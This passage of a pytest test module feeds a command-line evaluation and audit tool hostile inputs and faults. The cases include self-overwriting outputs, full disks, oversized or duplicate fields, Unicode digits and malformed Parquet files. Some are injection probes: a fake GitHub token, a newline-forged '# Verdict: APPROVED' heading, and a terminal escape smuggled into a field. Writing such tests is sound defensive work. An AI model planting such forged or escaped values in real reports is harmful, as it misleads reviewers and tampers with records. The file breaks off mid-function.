"""The hostile table: data loss, all-or-none, tracebacks, leaks, injection and integrity (issue 11).

Each case builds a hostile input or fault inside a copy of the reference flow, runs the command in
this process, and asserts the exit code, one line on stderr naming the file and the field, nothing
written and every earlier file untouched (same bytes, same mtime). Faults that need a real process
(kill -9, Ctrl-C, a concurrent writer) run the command line as a subprocess.
"""

from __future__ import annotations

import html as html_module
import json
import os
import re
import signal
import stat
import subprocess
import sys
import tempfile
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

import nbformat
import pytest

from hardening_support import OLD_MTIME, Flow, cli, prepare, snapshot

from worldflux_nb.io import files as files_module


@pytest.fixture()
def golden(reference_flow: Flow) -> Flow:
    return reference_flow


@dataclass(frozen=True)
class Hostile:
    id: str
    family: str
    # Builds the hostile input inside the folder and returns the command line.
    argv: Callable[[Flow, Path], list[Any]]
    file: str | None  # what the one-line message must name (None: a command-line flag is at fault)
    field: str | None = None  # a regular expression for the field
    code: int = 2
    # A fault injected into this process while the command runs (monkeypatch, folder) -> None.
    fault: Callable[[pytest.MonkeyPatch, Path], None] | None = None


def notebook_file(path: Path, text: str = "print('hi')") -> Path:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(text)]
    nbformat.write(nb, path)
    return path


def fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def render_plan(d: Path, output: Any) -> list[Any]:
    return ["eval-portfolio", "render-plan", "--plan", d / "plan.json", "--output", output]


def run_sheet(d: Path, md: Any, js: Any = None, csv: Any = None) -> list[Any]:
    argv = ["eval-portfolio", "render-run-sheet", "--plan", d / "plan.json", "--output", md]
    argv += ["--run-sheet-json", js] if js is not None else []
    return argv + (["--run-sheet-csv", csv] if csv is not None else [])


def packet(f: Flow, d: Path, md: Any, js: Any) -> list[Any]:
    audits = [a for p in f.probes for a in ("--audit-input", f"{p}={d / f.audit(p).name}")]
    return ["eval-portfolio", "packet", "--plan", d / "plan.json", *audits, "--output", md,
            "--packet-json", js]


def brief(d: Path, md: Any, js: Any) -> list[Any]:
    return ["eval-portfolio", "reviewer-brief", "--packet", d / "packet.json", "--output", md,
            "--brief-json", js]


def import_jsonl(f: Flow, d: Path, source: Any, output: Any, *extra: Any) -> list[Any]:
    return import_as("jsonl", f, d, source, output, *extra)


def import_csv(f: Flow, d: Path, source: Any, output: Any = None) -> list[Any]:
    return import_as("csv", f, d, source, d / "out.json" if output is None else output)


def import_as(fmt: str, f: Flow, d: Path, source: Any, output: Any, *extra: Any) -> list[Any]:
    """`audit import FMT SOURCE` against the flow's plan and first probe."""
    return ["audit", "import", fmt, source, "--plan", d / "plan.json", "--probe", f.probes[0],
            *extra, "--output", output]


def evidence(f: Flow, d: Path) -> Path:
    return d / f.evidence(f.probes[0]).name


def link(d: Path, name: str, target: str, hard: bool = False) -> Path:
    (os.link if hard else os.symlink)(d / target, d / name)
    return d / name


def plan_cmd(d: Path, output: Any, *extra: Any) -> list[Any]:
    return ["eval-portfolio", "plan", "--profile", d / "profile.json", "--seed", "1234",
            "--seed-source", "operator_supplied", *extra, "--output", output]


def enospc(monkeypatch: pytest.MonkeyPatch, _: Path) -> None:
    def full(path: Path, data: bytes) -> None:
        raise OSError(28, "No space left on device", str(path))
    monkeypatch.setattr(files_module, "_write_file", full)


def read_only_folder(monkeypatch: pytest.MonkeyPatch, _: Path) -> None:
    # Tests run as root, for whom chmod 0500 stops nothing: the refusal the kernel would give is injected.
    def refuse(prefix: str = "", suffix: str = "", dir: str | None = None) -> Any:
        raise PermissionError(13, "Permission denied", os.path.join(dir or "", prefix + "XXXX" + suffix))
    monkeypatch.setattr(files_module.tempfile, "mkstemp", refuse)


def sub_folder(d: Path, name: str) -> Path:
    (d / name).mkdir()
    return d / name


def tmp_sibling(d: Path, name: str) -> Path:
    """A path beside the work folder, outside what a command scanning the work folder reads."""
    return d.parent / name


def one_file_run(f: Flow, d: Path) -> Path:
    """A run folder holding one harness file (generic JSON Lines evidence), which run-folder import takes."""
    run = sub_folder(d, "run")
    (run / "episodes.jsonl").write_bytes(evidence(f, d).read_bytes())
    return run


DATA_LOSS = [
    Hostile("render-plan-over-its-plan", "data-loss", lambda f, d: render_plan(d, d / "plan.json"),
            "plan.json", "same file as the input"),
    Hostile("render-plan-over-plan-by-dotdot", "data-loss",
            lambda f, d: render_plan(d, d / "x" / ".." / "plan.json") if (d / "x").mkdir() is None else [],
            "plan.json", "same file as the input"),
    Hostile("render-plan-over-plan-by-symlink", "data-loss",
            lambda f, d: render_plan(d, link(d, "alias.md", "plan.json")), "alias.md", "same file as the input"),
    Hostile("render-plan-over-plan-by-hardlink", "data-loss",
            lambda f, d: render_plan(d, link(d, "hard.md", "plan.json", hard=True)), "hard.md",
            "same file as the input"),
    Hostile("import-over-its-harness-file", "data-loss",
            lambda f, d: import_jsonl(f, d, evidence(f, d), evidence(f, d)), "evidence_", "same file as the input"),
    Hostile("import-over-the-plan", "data-loss",
            lambda f, d: import_jsonl(f, d, evidence(f, d), d / "plan.json"), "plan.json", "same file as the input"),
    Hostile("packet-md-over-the-plan", "data-loss", lambda f, d: packet(f, d, d / "plan.json", d / "out.json"),
            "plan.json", "same file as the input"),
    Hostile("packet-json-over-an-audit-input", "data-loss",
            lambda f, d: packet(f, d, d / "out.md", d / f.audit(f.probes[0]).name), "audit_",
            "same file as the input"),
    Hostile("packet-outputs-the-same-file", "data-loss",
            lambda f, d: packet(f, d, d / "out.md", f"{d}/./out.md"),
            "out.md", "same file as the output"),
    Hostile("run-sheet-md-and-json-one-file", "data-loss",
            lambda f, d: run_sheet(d, d / "rs.md", d / "sub" / ".." / "rs.md") if (d / "sub").mkdir() is None else [],
            "rs.md", "same file as the output"),
    Hostile("run-sheet-csv-over-the-plan", "data-loss",
            lambda f, d: run_sheet(d, d / "out.md", d / "out.json", d / "plan.json"), "plan.json",
            "same file as the input"),
    Hostile("brief-over-its-packet", "data-loss", lambda f, d: brief(d, d / "out.md", d / "packet.json"),
            "packet.json", "same file as the input"),
    Hostile("brief-md-and-json-one-file", "data-loss", lambda f, d: brief(d, d / "out.md", d / "out.md"),
            "out.md", "same file as the output"),
    Hostile("plan-over-its-profile", "data-loss", lambda f, d: plan_cmd(d, d / "profile.json"),
            "profile.json", "same file as the input"),
    Hostile("output-is-a-fifo", "data-loss", lambda f, d: render_plan(d, fifo(d / "pipe.md")), "pipe.md",
            "FIFO"),
    Hostile("output-is-a-directory", "data-loss", lambda f, d: render_plan(d, d), str(Path("work")),
            "a directory"),
    Hostile("output-is-a-dangling-symlink", "data-loss",
            lambda f, d: render_plan(d, link(d, "dangling.md", "nowhere.md")), "dangling.md", "symbolic link"),
    Hostile("output-folder-missing", "data-loss", lambda f, d: render_plan(d, d / "nope" / "plan.md"),
            "plan.md", "does not exist"),
    Hostile("share-report-over-the-notebook", "data-loss",
            lambda f, d: ["notebook", "share", notebook_file(d / "nb.ipynb"), "--output", d / "c.ipynb",
                          "--report", d / "nb.ipynb"], "nb.ipynb", "same file as the input"),
    Hostile("share-copy-over-the-notebook", "data-loss",
            lambda f, d: ["notebook", "share", notebook_file(d / "nb.ipynb"), "--output", d / "nb.ipynb"],
            "nb.ipynb", "same file as the input"),
    Hostile("export-into-the-notebooks-own-run-folder", "data-loss",
            lambda f, d: ["notebook", "export", notebook_file(d / "nb.ipynb"), "--output-dir", d],
            "work", "--output-dir"),
    Hostile("triage-report-over-a-scanned-file", "data-loss",
            lambda f, d: ["audit", "triage", d, "--report", evidence(f, d)], "evidence_", "same file as the input"),
    Hostile("triage-report-into-its-own-run-folder", "data-loss",
            lambda f, d: ["audit", "triage", d, "--report", d / "triage.md"], "triage.md",
            "inside the folder"),
    Hostile("triage-json-report-into-a-scanned-sub-folder", "data-loss",
            lambda f, d: ["audit", "triage", d, "--report", tmp_sibling(d, "r.md"), "--report-json",
                          sub_folder(d, "sub") / "r.json"], "r.json", "inside the folder"),
    Hostile("run-folder-import-output-into-the-run-folder", "data-loss",
            lambda f, d: ["audit", "import", "run-folder", one_file_run(f, d), "--plan", d / "plan.json",
                          "--probe", f.probes[0], "--output", d / "run" / "audit.json"], "audit.json",
            "inside the folder"),
    Hostile("run-folder-import-report-into-the-run-folder", "data-loss",
            lambda f, d: ["audit", "import", "run-folder", one_file_run(f, d), "--plan", d / "plan.json",
                          "--probe", f.probes[0], "--output", d / "a.json", "--report",
                          d / "run" / "r.md"], "r.md", "inside the folder"),
    Hostile("disk-full-names-the-output", "data-loss", lambda f, d: render_plan(d, d / "out.md"), "out.md",
            "no space left on device", fault=enospc),
    Hostile("read-only-folder-names-the-output", "data-loss",
            lambda f, d: packet(f, d, d / "out.md", d / "out.json"), "out.md", "permission denied",
            fault=read_only_folder),
]

def first_line_with(f: Flow, d: Path, name: str, edit: Callable[[str], str]) -> Path:
    """The first probe's evidence with its first line's text edited."""
    lines = evidence(f, d).read_text(encoding="utf-8").splitlines()
    lines[0] = edit(lines[0])
    (d / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    return d / name


def text_edit(d: Path, src: str, name: str, old: str, new: str) -> Path:
    text = (d / src).read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {src}"
    (d / name).write_text(text.replace(old, new, 1), encoding="utf-8")
    return d / name


def csv_evidence(f: Flow, d: Path, name: str, *, header_extra: str = "", cell: str | None = None,
                 row_extra: str = "", raw: str | None = None) -> Path:
    row = json.loads(evidence(f, d).read_text(encoding="utf-8").splitlines()[0])
    columns = ["probe_id", "task_id", "axis", "level", "episode_index", "seed", "success", "status"]
    values = [str(row[c]) for c in columns]
    if cell is not None:
        values[-1] = cell
    body = raw if raw is not None else ",".join(values) + row_extra
    (d / name).write_text(",".join(columns) + header_extra + "\n" + body + "\n", encoding="utf-8")
    return d / name


HUGE = "9" * 5000


def edited_audit(f: Flow, d: Path, old: str, new: str) -> list[Any]:
    """packet over the first probe's audit input with its text edited (saved as a.json)."""
    audit = text_edit(d, f.audit(f.probes[0]).name, "a.json", old, new)
    return ["eval-portfolio", "packet", "--plan", d / "plan.json", "--audit-input", f"{f.probes[0]}={audit}",
            "--output", d / "out.md", "--packet-json", d / "out.json"]


def nb_run(d: Path, *params: str, template: str | None = None) -> list[Any]:
    argv: list[Any] = ["notebook", "run", *([template] if template else []), "--output-dir", d / "nbout"]
    for name, value in zip(params[::2], params[1::2]):
        argv += ["-p", name, value]
    return argv


def csv_import(f: Flow, d: Path, column: str, value: str) -> list[Any]:
    """`audit import csv` of the first evidence row with one cell replaced."""
    row = json.loads(evidence(f, d).read_text(encoding="utf-8").splitlines()[0])
    columns = ["probe_id", "task_id", "axis", "level", "episode_index", "seed", "success", "status"]
    cells = [value if c == column else str(row[c]) for c in columns]
    (d / "e.csv").write_text(",".join(columns) + "\n" + ",".join(cells) + "\n", encoding="utf-8")
    return import_csv(f, d, d / "e.csv")


def parquet_audit(f: Flow, d: Path, *, meta: Callable[[bytes], bytes | None] | None = None,
                  column: tuple[str, Callable[[list[Any]], list[Any]]] | None = None,
                  duplicate: str | None = None, rows: int | None = None) -> Path:
    """The first probe's audit input imported as a.parquet, then its header or one column rewritten."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = d / "a.parquet"
    assert cli(import_jsonl(f, d, evidence(f, d), path)).code == 0
    table = pq.read_table(path)
    header = dict(table.schema.metadata or {})
    if meta is not None:
        value = meta(header[b"worldflux_nb.header"])
        header = {k: v for k, v in header.items() if k != b"worldflux_nb.header"}
        header.update({b"worldflux_nb.header": value} if value is not None else {})
    if column is not None:
        name, edit = column
        values = edit(table[name].to_pylist())
        table = table.set_column(table.schema.get_field_index(name), name,
                                 values if isinstance(values, pa.Array) else pa.array(values))
    if duplicate is not None:
        table = table.append_column(duplicate, table[duplicate])
    if rows is not None:
        table = table.slice(0, rows)
    pq.write_table(table.replace_schema_metadata(header), path)
    os.utime(path, (OLD_MTIME, OLD_MTIME))
    return path


def parquet_import(f: Flow, d: Path, column: str, values: Any) -> list[Any]:
    """`audit import parquet` of the first probe's evidence as e.parquet, one column replaced or added
    (`values` builds its Arrow array from the row count)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = [json.loads(line) for line in evidence(f, d).read_text(encoding="utf-8").splitlines() if line.strip()]
    for row in rows:
        row["metadata"] = json.dumps(row["metadata"]) if row.get("metadata") else None
    table = pa.Table.from_pylist(rows)
    array = values(len(rows))
    names = table.column_names
    table = (table.set_column(names.index(column), column, array) if column in names
             else table.append_column(column, array))
    pq.write_table(table, d / "e.parquet")
    return import_as("parquet", f, d, d / "e.parquet", d / "out.json")


def uint64_max(values: list[Any]) -> Any:
    import pyarrow as pa

    return pa.array([2**64 - 1] * len(values), pa.uint64())


def packet_over(f: Flow, d: Path, audit: Path) -> list[Any]:
    return ["eval-portfolio", "packet", "--plan", d / "plan.json", "--audit-input", f"{f.probes[0]}={audit}",
            "--output", d / "out.md", "--packet-json", d / "out.json"]


def receipt(d: Path, *extra: str) -> list[Any]:
    return ["eval-portfolio", "plan-receipt", "--plan", d / "plan.json", *extra, "--output", d / "out.json"]


TRACEBACKS = [
    Hostile("jsonl-5000-digit-index", "traceback",
            lambda f, d: import_jsonl(f, d, first_line_with(f, d, "e.jsonl", lambda l: l.replace(
                '"episode_index": ', f'"episode_index": {HUGE}, "x": ', 1)), d / "out.json"), "e.jsonl", "line 1"),
    Hostile("plan-5000-digit-seed", "traceback",
            lambda f, d: render_plan(d, d / "out.md") if text_edit(d, "plan.json", "plan.json", '"plan_seed": ',
                                                                    f'"plan_seed": {HUGE}, "x": ') else [],
            "plan.json", "digit integer"),
    Hostile("profile-5000-digit-dof", "traceback",
            lambda f, d: ["eval-portfolio", "plan", "--profile", text_edit(
                d, "profile.json", "p.json", '"degrees_of_freedom": ', f'"degrees_of_freedom": -{HUGE}, "x": '),
                "--seed", "1", "--output", d / "out.json"], "p.json", "digit integer"),
    Hostile("audit-input-5000-digit-seed", "traceback",
            lambda f, d: edited_audit(f, d, '"seed": ', f'"seed": {HUGE}, "y": '), "a.json", "digit integer"),
    Hostile("packet-5000-digit-count", "traceback",
            lambda f, d: ["eval-portfolio", "reviewer-brief", "--packet", text_edit(
                d, "packet.json", "k.json", '"matched": ', f'"matched": {HUGE}, "z": '), "--output", d / "out.md",
                "--brief-json", d / "out.json"], "k.json", "digit integer"),
    Hostile("lerobot-5000-digit-seed", "traceback",
            lambda f, d: ["audit", "import", "lerobot", (d / "eval_info.json").write_text(
                '{"per_episode": [{"episode_ix": 0, "success": true, "seed": ' + HUGE + '}], '
                '"aggregated": {"pc_success": 100.0}}') and d / "eval_info.json", "--plan", d / "plan.json",
                "--probe", f.probes[0], "--task", "libero_spatial/6", "--output", d / "out.json"],
            "eval_info.json", "digit integer"),
    Hostile("jsonl-duplicate-success", "traceback",
            lambda f, d: import_jsonl(f, d, first_line_with(f, d, "e.jsonl", lambda l: l.replace(
                '"success": ', '"success": false, "success": ', 1)), d / "out.json"), "e.jsonl", r"line 1\.success"),
    Hostile("jsonl-duplicate-key-spaced-colon", "traceback",
            lambda f, d: import_jsonl(f, d, first_line_with(f, d, "e.jsonl", lambda l: l.replace(
                '"success": ', '"success" : false, "success" :', 1)), d / "out.json"), "e.jsonl", r"success"),
    Hostile("jsonl-duplicate-metadata-key", "traceback",
            lambda f, d: import_jsonl(f, d, first_line_with(f, d, "e.jsonl", lambda l: l.replace(
                '"metadata": {', '"metadata": {"adapter_version": "other", ', 1)), d / "out.json"), "e.jsonl",
            r"adapter_version"),
    Hostile("plan-duplicate-key", "traceback",
            lambda f, d: render_plan(d, d / "out.md") if text_edit(d, "plan.json", "plan.json", '"plan_seed": ',
                                                                    '"plan_seed": 1, "plan_seed": ') else [],
            "plan.json", "plan_seed"),
    Hostile("audit-input-duplicate-key", "traceback",
            lambda f, d: edited_audit(f, d, '"success": ', '"success": true, "success": '), "a.json", "success"),
    Hostile("vla-eval-duplicate-key", "traceback",
            lambda f, d: ["audit", "import", "vla-eval", (d / "r_aggregate.json").write_text(
                '{"benchmark": "libero", "seed": 7, "seed": 8, "tasks": []}') and d / "r_aggregate.json",
                "--plan", d / "plan.json", "--probe", f.probes[0], "--output", d / "out.json"],
            "r_aggregate.json", "seed"),
    Hostile("csv-cell-over-field-limit", "traceback",
            lambda f, d: import_csv(f, d, csv_evidence(f, d, "e.csv", cell="x" * 200_000)),
            "e.csv", "line 2"),
    Hostile("csv-duplicate-column", "traceback",
            lambda f, d: import_csv(f, d, csv_evidence(f, d, "e.csv", header_extra=",success",
                                                       row_extra=",true")),
            "e.csv", "success"),
    Hostile("csv-nul-byte", "traceback",
            lambda f, d: import_csv(f, d, csv_evidence(f, d, "e.csv", raw="a,\x00b,c")),
            "e.csv", "line"),
    Hostile("csv-metadata-cell-duplicate-key", "traceback",
            lambda f, d: import_csv(f, d, csv_evidence(
                f, d, "e.csv", header_extra=",metadata", row_extra=',"{""a"": 1, ""a"": 2}"')), "e.csv",
            r"metadata\.a"),
    # Evidence is never dropped unseen: a key or column the generic format does not have is refused.
    Hostile("jsonl-unknown-key", "data-loss",
            lambda f, d: import_jsonl(f, d, first_line_with(f, d, "e.jsonl", lambda l: l.replace(
                '"metadata": ', '"extra_thing": 5, "metadata": ', 1)), d / "out.json"),
            "e.jsonl", r"line 1: has the key 'extra_thing'.*belong in metadata"),
    Hostile("csv-unknown-column", "data-loss",
            lambda f, d: import_csv(f, d, csv_evidence(f, d, "e.csv", header_extra=",notes",
                                                       row_extra=",gripper slipped")),
            "e.csv", r"column 'notes'.*metadata\.<key> columns"),
    Hostile("jsonl-run-id-not-text", "traceback",
            lambda f, d: import_jsonl(f, d, first_line_with(f, d, "e.jsonl", lambda l: l.replace(
                '"metadata": ', '"run_id": {"a": 1}, "metadata": ', 1)), d / "out.json"),
            "e.jsonl", r"line 1\.run_id"),
    Hostile("max-ci-half-width-1e-300", "traceback", lambda f, d: plan_cmd(d, d / "out.json", "--max-ci-half-width",
                                                                          "1e-300"), None, "--max-ci-half-width"),
    Hostile("max-ci-half-width-nan", "traceback", lambda f, d: plan_cmd(d, d / "out.json", "--max-ci-half-width",
                                                                       "nan"), None, "--max-ci-half-width"),
    Hostile("max-ci-half-width-inf", "traceback", lambda f, d: plan_cmd(d, d / "out.json", "--max-ci-half-width",
                                                                       "inf"), None, "--max-ci-half-width"),
    Hostile("seed-beyond-int64", "traceback", lambda f, d: ["eval-portfolio", "plan", "--profile",
                                                            d / "profile.json", "--seed", str(2**64),
                                                            "--output", d / "out.json"], None, "--seed"),
    Hostile("notebook-p-seed-nan", "traceback", lambda f, d: nb_run(d, "seed", "nan"), None, "-p seed"),
    Hostile("notebook-p-seed-1e999", "traceback", lambda f, d: nb_run(d, "seed", "1e999"), None, "-p seed"),
    Hostile("notebook-p-seed-twelve", "traceback", lambda f, d: nb_run(d, "seed", "twelve"),
            "profile_to_brief.ipynb", "seed: must be an integer"),
    Hostile("notebook-p-strict-a-number", "traceback", lambda f, d: nb_run(d, "strict_missing_evidence", "3"),
            "profile_to_brief.ipynb", "strict_missing_evidence"),
    # Parameters whose default is None are typed in the template (papermill's `# type:` comment):
    # refused before a kernel starts, naming the parameter, instead of failing inside the kernel.
    Hostile("notebook-p-episodes-per-cell-twelve", "traceback", lambda f, d: nb_run(d, "episodes_per_cell", "twelve"),
            "profile_to_brief.ipynb", "episodes_per_cell: must be an integer or None"),
    Hostile("notebook-p-episodes-per-cell-a-fraction", "traceback",
            lambda f, d: nb_run(d, "episodes_per_cell", "2.5"), "profile_to_brief.ipynb", "episodes_per_cell"),
    Hostile("notebook-p-episodes-per-cell-a-list", "traceback",
            lambda f, d: nb_run(d, "episodes_per_cell", "[3]"), "profile_to_brief.ipynb", "episodes_per_cell"),
    Hostile("notebook-p-max-evidence-rows-a-fraction", "traceback",
            lambda f, d: nb_run(d, "max_evidence_rows", "2.5"), "profile_to_brief.ipynb", "max_evidence_rows"),
    Hostile("notebook-p-seed-source-not-a-choice", "traceback", lambda f, d: nb_run(d, "seed_source", "mine"),
            "profile_to_brief.ipynb", "seed_source: must be one of 'operator_supplied', 'generated'"),
    Hostile("notebook-p-denominator-policy-not-a-choice", "traceback",
            lambda f, d: nb_run(d, "denominator_policy", "best_of_three"), "profile_to_brief.ipynb",
            "denominator_policy: must be one of"),
    Hostile("notebook-p-audit-inputs-not-a-list", "traceback", lambda f, d: nb_run(d, "audit_inputs", "a.json"),
            "profile_to_brief.ipynb", "audit_inputs: must be a list"),
    Hostile("notebook-p-audit-inputs-a-number-inside", "traceback",
            lambda f, d: nb_run(d, "audit_inputs", '["a.json", 7]'), "profile_to_brief.ipynb", r"audit_inputs: .*item 1"),
    Hostile("notebook-p-harness-files-not-mappings", "traceback",
            lambda f, d: nb_run(d, "harness_files", '["eval_info.json"]'), "profile_to_brief.ipynb", "harness_files"),
    Hostile("notebook-p-strict-none", "traceback", lambda f, d: nb_run(d, "strict_missing_evidence", "None"),
            "profile_to_brief.ipynb", "strict_missing_evidence: must be True or False"),
    Hostile("notebook-p-seed-huge-exponent", "traceback", lambda f, d: nb_run(d, "seed", "1e308"),
            "profile_to_brief.ipynb", "seed: must be an integer"),
    Hostile("compare-template-p-arms-text", "traceback",
            lambda f, d: nb_run(d, "arms", "baseline", template="compare_policies"), "compare_policies.ipynb",
            "arms: must be a mapping or None"),
    Hostile("compare-template-p-looks-text", "traceback",
            lambda f, d: nb_run(d, "sequential_looks", "four", template="compare_policies"), "compare_policies.ipynb",
            "sequential_looks: must be an integer or None"),
    Hostile("compare-template-p-compare-pair-of-numbers", "traceback",
            lambda f, d: nb_run(d, "compare", "[[1, 2]]", template="compare_policies"), "compare_policies.ipynb",
            "compare: must be a list"),
    # Parquet audit inputs: hostile header metadata, wrong column types, huge and non-finite values.
    Hostile("parquet-header-not-json", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, meta=lambda h: b"{not json")), "a.parquet",
            "worldflux_nb.header"),
    Hostile("parquet-header-duplicate-key", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, meta=lambda h: h.replace(b"{", b'{"probe_id": "x", ', 1))),
            "a.parquet", "probe_id"),
    Hostile("parquet-header-5000-digit", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, meta=lambda h: h.replace(b"{", b'{"z": ' + HUGE.encode()
                                                                                     + b", ", 1))),
            "a.parquet", "digit integer"),
    Hostile("parquet-header-missing", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, meta=lambda h: None)), "a.parquet", "header"),
    Hostile("parquet-episode-index-as-text", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, column=("episode_index", lambda v: [str(x) for x in v]))),
            "a.parquet", "episode_index"),
    Hostile("parquet-seed-as-infinite-float", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, column=("seed", lambda v: [float("inf")] * len(v)))),
            "a.parquet", "seed"),
    Hostile("parquet-episode-index-nan", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, column=("episode_index", lambda v: [float("nan")] * len(v)))),
            "a.parquet", "episode_index"),
    Hostile("parquet-seed-beyond-int64", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, column=("seed", uint64_max))),
            "a.parquet", "seed"),
    Hostile("parquet-duplicate-column", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, duplicate="success")), "a.parquet", "success"),
    Hostile("parquet-metadata-duplicate-key", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, column=("metadata", lambda v: ['{"a":1,"a":2}'] * len(v)))),
            "a.parquet", "metadata"),
    Hostile("parquet-zero-rows", "traceback",
            lambda f, d: packet_over(f, d, parquet_audit(f, d, rows=0)), "a.parquet", "audit_digest"),
    Hostile("parquet-not-parquet", "traceback",
            lambda f, d: packet_over(f, d, (d / "a.parquet").write_bytes(b"PAR1garbagePAR1") and d / "a.parquet"),
            "a.parquet", None),
    # New commands and flags of the last session.
    Hostile("plan-receipt-received-by-too-long", "traceback",
            lambda f, d: receipt(d, "--received-by", "x" * 200_000), None, "received_by"),
    Hostile("plan-receipt-received-by-a-secret", "leak",
            lambda f, d: receipt(d, "--received-by", "ghp_" + "a" * 36), None, "received_by: .*secret"),
    Hostile("plan-receipt-received-by-forged-heading", "injection",
            lambda f, d: receipt(d, "--received-by", "alice\n# Verdict: APPROVED"), None, "received_by: .*one line"),
    Hostile("plan-receipt-received-by-terminal-escape", "injection",
            lambda f, d: receipt(d, "--received-by", "alice\x1b[2J"), None, "received_by: .*control"),
    Hostile("plan-alpha-denormal", "traceback",
            lambda f, d: plan_cmd(d, d / "out.json", "--compare", "a", "b", "--alpha", "1e-320"), None, "alpha"),
    Hostile("plan-sequential-looks-zero", "traceback",
            lambda f, d: plan_cmd(d, d / "out.json", "--compare", "a", "b", "--sequential-looks", "0"), None,
            "sequential.looks"),
    Hostile("plan-sequential-max-episodes-zero", "traceback",
            lambda f, d: plan_cmd(d, d / "out.json", "--compare", "a", "b", "--sequential-max-episodes", "0"), None,
            "sequential.max.episodes"),
    Hostile("import-max-bytes-negative", "traceback",
            lambda f, d: import_jsonl(f, d, evidence(f, d), d / "out.json", "--max-bytes", "-5"), None,
            "--max-bytes: must be a positive integer"),
    Hostile("import-max-evidence-rows-zero", "traceback",
            lambda f, d: import_jsonl(f, d, evidence(f, d), d / "out.json", "--max-evidence-rows", "0"), None,
            "--max-evidence-rows: must be a positive integer"),
    Hostile("packet-max-evidence-rows-negative", "traceback",
            lambda f, d: packet(f, d, d / "out.md", d / "out.json") + ["--max-evidence-rows", "-1"], None,
            "--max-evidence-rows"),
    Hostile("triage-max-files-zero", "traceback",
            lambda f, d: ["audit", "triage", d, "--max-files", "0", "--report", d / "out.md"], None, "--max-files"),
    Hostile("triage-max-seconds-nan", "traceback",
            lambda f, d: ["audit", "triage", d, "--max-seconds", "nan", "--report", d / "out.md"], None, "--max-seconds"),
    Hostile("verify-max-bytes-zero", "traceback",
            lambda f, d: ["audit", "verify", d / f.audit(f.probes[0]).name, evidence(f, d), "--plan", d / "plan.json",
                          "--max-bytes", "0"], None, "--max-bytes"),
    Hostile("notebook-run-timeout-zero", "traceback",
            lambda f, d: nb_run(d) + ["--timeout", "0"], None, "--timeout"),
    Hostile("parquet-evidence-not-parquet", "traceback",
            lambda f, d: import_as("parquet", f, d, evidence(f, d), d / "out.json"),
            "jsonl", "not a readable Parquet file"),
    Hostile("parquet-evidence-success-as-text", "integrity",
            lambda f, d: parquet_import(f, d, "success", lambda n: __import__("pyarrow").array(["true"] * n)),
            "e.parquet", r"row 1\.success: must be true, false or null"),
    Hostile("parquet-evidence-index-with-fraction", "integrity",
            lambda f, d: parquet_import(f, d, "episode_index", lambda n: __import__("pyarrow").array([0.5] * n)),
            "e.parquet", r"row 1\.episode_index"),
    Hostile("parquet-evidence-negative-index", "integrity",
            lambda f, d: parquet_import(f, d, "episode_index", lambda n: __import__("pyarrow").array([-3] * n)),
            "e.parquet", r"row 1\.episode_index"),
    Hostile("parquet-evidence-null-task", "integrity",
            lambda f, d: parquet_import(f, d, "task_id", lambda n: __import__("pyarrow").array([None] * n,
                                                                                               "string")),
            "e.parquet", r"row 1\.task_id"),
    Hostile("parquet-evidence-list-metadata-column", "data-loss",
            lambda f, d: parquet_import(f, d, "metadata.tags", lambda n: __import__("pyarrow").array([["a"]] * n)),
            "e.parquet", r"column 'metadata\.tags'"),
    Hostile("parquet-evidence-unknown-column", "data-loss",
            lambda f, d: parquet_import(f, d, "notes", lambda n: __import__("pyarrow").array(["slipped"] * n)),
            "e.parquet", r"column 'notes'.*metadata\.<key> columns"),
    # A CSV integer is ASCII digits (int() would read '1_0' as 10 and '١' as 1).
    Hostile("csv-index-with-underscore", "integrity", lambda f, d: csv_import(f, d, "episode_index", "1_0"), "e.csv",
            r"line 2\.episode_index: must be an integer"),
    Hostile("csv-index-arabic-indic-digit", "integrity", lambda f, d: csv_import(f, d, "episode_index", "\u0661"), "e.csv",
            r"line 2\.episode_index: must be an integer"),
    Hostile("csv-index-with-plus", "integrity", lambda f, d: csv_import(f, d, "episode_index", "+1"), "e.csv",
            r"line 2\.episode_index: must be an integer"),
    Hostile("csv-seed-in-exponent-form", "integrity", lambda f, d: csv_import(f, d, "seed", "1e3"), "e.csv",
            r"line 2\.seed: must be an integer"),
    Hostile("csv-seed-fullwidth-digit", "integrity", lambda f, d: csv_import(f, d, "seed", "\uff11"), "e.csv",
            r"line 2\.seed: must be an integer"),
    Hostile("jsonl-deep-nesting", "traceback",
            lambda f, d: import_jsonl(f, d, first_line_with(f, d, "e.jsonl", lambda l: l.replace(
                '"metadata": ', '"deep": ' + "[" * 100_000 + "]" * 100_000 + ', "metadata": ', 1)), d / "out.json"),
            "e.jsonl", "line 1"),
    Hostile("jsonl-success-1e999", "traceback",
            lambda f, d: import_jsonl(f, d, first_line_with(f, d, "e.jsonl", lambda l: l.replace(
                '"seed": ', '"seed": 1e999, "x": ', 1)), d / "out.json"), "e.jsonl", "seed"),
    Hostile("plan-bare-nan", "traceback",
            lambda f, d: render_plan(d, d / "out.md") if text_edit(d, "plan.json", "plan.json", '"plan_seed": ',
                                                                    '"plan_seed": NaN, "x": ') else [],
            "plan.json", "NaN"),
    Hostile("notebook-duplicate-output-key", "traceback",
            lambda f, d: ["notebook", "share", text_edit(d, notebook_file(d / "nb.ipynb").name, "nb2.ipynb",
                                                         '"cells": [', '"cells": [], "cells": ['),
                          "--output", d / "c.ipynb"], "nb2.ipynb", "cells"),
]

def verify_twice(f: Flow, d: Path, second: Path) -> list[Any]:
    """packet re-importing the first probe's harness file, then `second` (the same file again)."""
    return [*packet(f, d, d / "out.md", d / "out.json"), "--verify-source", f"{f.probes[0]}={evidence(f, d)}",
